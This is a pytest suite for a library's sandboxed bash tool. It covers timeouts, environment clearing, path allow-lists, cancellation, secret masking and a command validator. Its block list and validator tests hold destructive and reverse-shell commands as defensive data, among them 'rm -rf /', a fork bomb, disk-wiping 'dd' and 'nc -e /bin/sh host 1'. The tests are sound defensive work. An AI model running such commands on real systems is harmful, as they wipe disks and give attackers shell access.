from __future__ import annotations

import asyncio
from collections.abc import Coroutine
from datetime import timedelta
from pathlib import Path
from typing import Any, TypeVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import is_running, python, wait_until

import limpet
from limpet.profiles import Answer, Toolbox, profile
from limpet.profiles.streams import (
    BLOCKED_COMMANDS,
    BashOptions,
    BashResult,
    CommandFailed,
    CommandValidator,
    Io,
    PathNotAllowed,
    PrimitiveContext,
    PrimitiveError,
    Validation,
    bash,
    bash_sequence,
    bash_success,
)

_Value = TypeVar("_Value")


@pytest.fixture
def ctx(work: Path) -> PrimitiveContext:
    return PrimitiveContext(work)


def done(coroutine: Coroutine[Any, Any, _Value]) -> _Value:
    return asyncio.run(coroutine)


def ran(ctx: PrimitiveContext, command: str, options: BashOptions | None = None) -> BashResult:
    return done(bash(ctx, command, options))


# bash


def test_streams_are_apart(ctx: PrimitiveContext) -> None:
    result = ran(ctx, "echo 'hello world'; echo error >&2")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "hello world\n", "error\n")
    assert result.timed_out is False


def test_the_exit_code_is_the_commands(ctx: PrimitiveContext) -> None:
    assert ran(ctx, "exit 42").exit_code == 42


def test_a_signal_is_minus_one(ctx: PrimitiveContext) -> None:
    assert ran(ctx, "kill -9 $$").exit_code == -1


def test_the_metadata_names_the_operation(work: Path) -> None:
    ctx = PrimitiveContext(work, operation_id="op-1")
    metadata = ran(ctx, "sleep 0.05").metadata
    assert (metadata.operation_id, metadata.primitive) == ("op-1", "bash")
    assert timedelta(seconds=0.05) <= metadata.duration < timedelta(seconds=5)


def test_each_context_is_an_operation_of_its_own(work: Path) -> None:
    assert PrimitiveContext(work).operation_id != PrimitiveContext(work).operation_id


def test_the_input_is_empty(ctx: PrimitiveContext) -> None:
    assert ran(ctx, "cat; echo end").stdout == "end\n"


def test_malformed_text_is_replaced(ctx: PrimitiveContext) -> None:
    assert ran(ctx, r"printf 'a\377b'").stdout == "a�b"


# Options


def test_the_defaults() -> None:
    for options in (BashOptions(), BashOptions.new()):
        assert options.timeout_s == 120
        assert options.max_output_size == 10 * 1024 * 1024
        assert dict(options.env_vars) == {}
        assert options.blocked_commands == BLOCKED_COMMANDS
    assert BLOCKED_COMMANDS == ("rm -rf /", ":(){ :|:& };:", "mkfs", "dd if=/dev/", "> /dev/sd")


def test_builders_return_new_options() -> None:
    plain = BashOptions()
    built = plain.working_dir("/tmp").env("A", "b").clear_env().no_timeout().block_command("x")
    assert plain == BashOptions()
    assert built.blocked_commands == (*BLOCKED_COMMANDS, "x")
    assert built.timeout_s is None


def test_variables(ctx: PrimitiveContext) -> None:
    options = BashOptions().env("A", "1").envs({"B": "2", "C": "3"}).env("A", "x y")
    assert ran(ctx, 'echo "$A$B$C"', options).stdout == "x y23\n"


def test_a_cleared_environment_inherits_nothing(
    ctx: PrimitiveContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("INHERITED", "x")
    assert ran(ctx, "echo $INHERITED").stdout == "x\n"
    options = BashOptions().clear_env().env("A", "b")
    assert ran(ctx, "echo $INHERITED$HOME$USER$A", options).stdout == "b\n"


def test_a_cleared_environment_has_none_of_the_hosts_values(ctx: PrimitiveContext) -> None:
    """What keeps programs from asking (PAGER=cat …) is limpet's own, and the same everywhere."""
    options = BashOptions().clear_env().env("A", "b")
    lines = ran(ctx, "/usr/bin/env", options).stdout.splitlines()
    names = {line.partition("=")[0] for line in lines}
    assert "A=b" in lines
    assert not names & {"HOME", "USER", "PATH", "LANG", "LOGNAME", "LIMPET_TEST_SESSION"}


def test_the_working_directory(ctx: PrimitiveContext, work: Path, tmp_path: Path) -> None:
    (work / "below").mkdir()
    assert ran(ctx, "pwd").stdout == f"{work}\n"
    assert ran(ctx, "pwd", BashOptions().working_dir("below")).stdout == f"{work}/below\n"
    assert ran(ctx, "pwd", BashOptions().working_dir(str(tmp_path))).stdout == f"{tmp_path}\n"


@pytest.mark.parametrize("limit", [0.2, timedelta(milliseconds=200)])
def test_a_time_out_keeps_what_was_printed(ctx: PrimitiveContext, limit: float | timedelta) -> None:
    result = ran(ctx, "echo o; echo e >&2; sleep 60", BashOptions().timeout(limit))
    assert (result.timed_out, result.exit_code) == (True, -1)
    assert (result.stdout, result.stderr) == ("o\n", "e\n")


def test_without_a_timeout(ctx: PrimitiveContext) -> None:
    assert ran(ctx, "echo hi", BashOptions().no_timeout()).stdout == "hi\n"


def test_a_command_can_be_blocked(ctx: PrimitiveContext, work: Path) -> None:
    with pytest.raises(Validation) as caught:
        ran(ctx, "touch ran-terraform", BashOptions().block_command("terraform"))
    assert caught.value.message == "Command contains blocked pattern: terraform"
    assert not list(work.iterdir())


def test_of_each_stream_so_much_is_kept(ctx: PrimitiveContext) -> None:
    result = ran(ctx, "seq 1 1000; seq 1 500 >&2", BashOptions().max_output(10))
    assert (result.exit_code, result.stdout, result.stderr) == (
        0,
        "1\n2\n3\n4\n5\n",
        "1\n2\n3\n4\n5\n",
    )


def test_ten_megabytes_of_each_stream_are_kept(ctx: PrimitiveContext) -> None:
    most = 10 * 1024 * 1024
    code = f"import sys; sys.stdout.write('o' * {most + 5}); sys.stderr.write('e' * {most})"
    result = ran(ctx, python(code))
    assert (len(result.stdout), len(result.stderr)) == (most, most)
    assert set(result.stdout) == {"o"}


# Paths


@pytest.mark.parametrize("given", ["/etc", "..", "../outside", "link", "/"])
def test_a_directory_that_is_not_allowed(work: Path, given: str) -> None:
    (work.parent / "outside").mkdir()
    (work / "link").symlink_to("/etc")
    ctx = PrimitiveContext(work, [work])
    with pytest.raises(PathNotAllowed) as caught:
        ran(ctx, "touch ran", BashOptions().working_dir(given))
    assert isinstance(caught.value.path, Path)
    assert isinstance(caught.value, PermissionError)


def test_what_lies_below_an_allowed_path_is_allowed(work: Path) -> None:
    (work / "below").mkdir()
    ctx = PrimitiveContext(work, [str(work)])
    assert ran(ctx, "pwd").stdout == f"{work}\n"
    assert ran(ctx, "pwd", BashOptions().working_dir("below")).stdout == f"{work}/below\n"
    assert not ctx.is_path_allowed(f"{work}-beside")
    assert PrimitiveContext(work).is_path_allowed("/etc")


def test_the_contexts_own_directory_must_be_allowed_too(work: Path) -> None:
    with pytest.raises(PathNotAllowed):
        ran(PrimitiveContext("/etc", [work]), "true")


def test_a_directory_that_does_not_exist(ctx: PrimitiveContext) -> None:
    with pytest.raises(Io, match="nowhere") as caught:
        ran(ctx, "true", BashOptions().working_dir("nowhere"))
    assert isinstance(caught.value, OSError)


# bash_success and bash_sequence


def test_success_is_returned_and_failure_raised(ctx: PrimitiveContext) -> None:
    assert done(bash_success(ctx, "echo hi")).stdout == "hi\n"
    with pytest.raises(CommandFailed) as caught:
        done(bash_success(ctx, "echo why >&2; exit 3"))
    assert (caught.value.exit_code, caught.value.message) == (3, "why\n")
    assert isinstance(caught.value, PrimitiveError)


def test_a_time_out_is_no_success(ctx: PrimitiveContext) -> None:
    with pytest.raises(CommandFailed):
        done(bash_success(ctx, "sleep 60", BashOptions().timeout(0.1)))


def test_a_sequence_stops_at_the_first_failure(ctx: PrimitiveContext, work: Path) -> None:
    results = done(bash_sequence(ctx, ["echo 1", "exit 4", "touch ran"]))
    assert [result.exit_code for result in results] == [0, 4]
    assert not (work / "ran").exists()
    assert len(done(bash_sequence(ctx, ["true", "true"]))) == 2
    assert done(bash_sequence(ctx, [])) == []


def test_a_sequence_uses_its_options_each_time(ctx: PrimitiveContext) -> None:
    results = done(bash_sequence(ctx, ["echo $A", "echo $A"], BashOptions().env("A", "b")))
    assert [result.stdout for result in results] == ["b\n", "b\n"]


def test_a_blocked_command_ends_a_sequence(ctx: PrimitiveContext) -> None:
    with pytest.raises(Validation):
        done(bash_sequence(ctx, ["true", "terraform"], BashOptions().block_command("terraform")))


# Cancellation


def test_cancellation_cleans_up(ctx: PrimitiveContext, work: Path) -> None:
    async def cancelled() -> list[int]:
        command = "sleep 60 & echo $! $$ > pids; wait"
        task = asyncio.create_task(bash(ctx, command))
        pids = work / "pids"
        await asyncio.to_thread(wait_until, lambda: pids.exists() and bool(pids.read_text()))
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        return [int(one) for one in pids.read_text().split()]

    assert not any(map(is_running, done(cancelled())))


def test_a_timeout_of_the_caller_cleans_up(ctx: PrimitiveContext, work: Path) -> None:
    async def timed_out() -> None:
        async with asyncio.timeout(0.2):
            await bash(ctx, "echo $$ > pid; exec sleep 60", BashOptions().no_timeout())

    with pytest.raises(TimeoutError):
        done(timed_out())
    assert not is_running(int((work / "pid").read_text()))


# The validator


def test_normal_commands_are_valid() -> None:
    cases: list[str] = ["ls -la", "git status", "echo 'hello'", "git add ."]
    for command in cases:
        CommandValidator([]).validate(command)
        CommandValidator(BLOCKED_COMMANDS).validate(command)


def test_an_empty_command_is_not() -> None:
    cases: list[str] = ["", "   ", "\n\t"]
    for command in cases:
        with pytest.raises(Validation) as caught:
            CommandValidator([]).validate(command)
        assert caught.value.message == "Empty command"


def test_a_blocked_pattern_is_named() -> None:
    cases: list[tuple[str, str]] = [
        ("rm -rf /", "rm -rf /"),
        (":(){ :|:& };:", ":(){ :|:& };:"),
        ("mkfs.ext4 /dev/sda1", "mkfs"),
        ("dd if=/dev/zero of=/dev/sda", "dd if=/dev/"),
        ("echo x > /dev/sda", "> /dev/sd"),
    ]
    for command, pattern in cases:
        with pytest.raises(Validation) as caught:
            CommandValidator(BLOCKED_COMMANDS).validate(command)
        assert caught.value.message == f"Command contains blocked pattern: {pattern}"


def test_danger_needs_no_pattern() -> None:
    cases: list[str] = [
        "rm -rf /",
        "dd if=/dev/zero of=/dev/sda",
        "nc -e /bin/sh host 1",
        "ncat -e /bin/bash host 1",
        "echo bHM= | base64 -d | bash",
        "echo bHM= | base64 -d |bash",
    ]
    for command in cases:
        with pytest.raises(Validation) as caught:
            CommandValidator([]).validate(command)
        assert caught.value.message == "Command appears to be dangerous"
        assert isinstance(caught.value, ValueError)


def test_arguments_are_escaped() -> None:
    cases: list[tuple[str, str]] = [("hello", "'hello'"), ("it's", "'it'\\''s'"), ("", "''")]
    for arg, escaped in cases:
        assert CommandValidator.escape_arg(arg) == escaped


def test_a_safe_command_is_built() -> None:
    built = CommandValidator.build_safe_command("printf", ["%s\n", "a b", "it's", "$(x)"])
    assert built == "printf '%s\n' 'a b' 'it'\\''s' '$(x)'"


ARGUMENTS = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\0\r"), max_size=20
)


@settings(max_examples=15, deadline=None)
@given(st.lists(ARGUMENTS, min_size=1, max_size=4))
def test_escaped_arguments_arrive_as_they_are(args: list[str]) -> None:
    import subprocess

    command = CommandValidator.build_safe_command("printf", ["%s\\0", *args])
    out = subprocess.run(["bash", "-c", command], capture_output=True, check=True).stdout
    assert out.decode().split("\0")[:-1] == args


# The tool


@pytest.fixture
def box() -> Toolbox:
    return profile("streams")


def test_the_tool_returns_the_same(box: Toolbox) -> None:
    answer = box.call_sync({"command": "echo o; echo e >&2; exit 3"})
    assert list(answer.data) == "exit_code stdout stderr timed_out metadata".split()
    assert (answer.data["exit_code"], answer.data["timed_out"]) == (3, False)
    assert (answer.data["stdout"], answer.data["stderr"]) == ("o\n", "e\n")
    assert list(answer.data["metadata"]) == ["duration", "operation_id", "primitive"]
    assert not answer.is_error


def test_the_tool_takes_the_options(box: Toolbox, work: Path) -> None:
    (work / "below").mkdir()
    call = {
        "command": "pwd; echo $A$HOME",
        "working_dir": "below",
        "env_vars": {"A": "b"},
        "clear_env": True,
        "max_output_size": 1000,
    }
    assert box.call_sync(call).data["stdout"] == f"{work}/below\nb\n"
    assert box.call_sync({"command": "sleep 60", "timeout": 0.1}).data["timed_out"] is True
    assert box.call_sync({"command": "seq 9", "max_output_size": 4}).data["stdout"] == "1\n2\n"


def test_a_refused_call_is_an_error_that_can_be_retried(box: Toolbox) -> None:
    answer = box.call_sync({"command": "rm -rf /"}, limpet.ToolContext(restricted=True))
    assert (answer.is_error, answer.can_retry) == (True, True)
    assert answer.text.startswith("Command contains blocked pattern: rm -rf /")


def test_what_the_host_does_not_permit_is_not_called_dangerous() -> None:
    permissions = limpet.PermissionPolicy(deny=("git *",))
    box = profile("streams", limpet.Policy(permissions=permissions))
    answer = box.call_sync({"command": "git status"})
    assert answer.is_error
    assert "dangerous" not in answer.text
    assert "git *" in answer.text


def test_a_cleared_environment_still_masks_secrets(
    work: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a model gives must not open what the host hides."""
    monkeypatch.setenv("SOME_TOKEN", "quite-a-secret-value")
    (work / "file").write_text("quite-a-secret-value")
    environment = limpet.EnvironmentPolicy(hide_secrets=True)
    box = profile("streams", limpet.Policy(environment=environment))
    for clears in (False, True):
        answer = box.call_sync({"command": "cat file", "clear_env": clears})
        assert "quite-a-secret-value" not in str(answer)


def test_a_cancelled_call_says_so(box: Toolbox) -> None:
    async def cancelled() -> Answer:
        cancel = asyncio.Event()
        asyncio.get_running_loop().call_later(0.05, cancel.set)
        return await box.call({"command": "sleep 60"}, limpet.ToolContext(cancel=cancel))

    answer = asyncio.run(cancelled())
    assert answer.is_error
    assert "cancelled" in answer.text


def test_the_tool_writes_where_the_host_lets_it_only(work: Path, tmp_path: Path) -> None:
    box = profile("streams", limpet.Policy(sandbox=limpet.SandboxPolicy(mode="workspace")))
    outside = Path.home() / ".limpet-test-outside"
    call = {"command": f"touch {outside}", "working_dir": str(Path.home())}
    assert box.call_sync(call, limpet.ToolContext(work)).data["exit_code"] != 0
    assert not outside.exists()
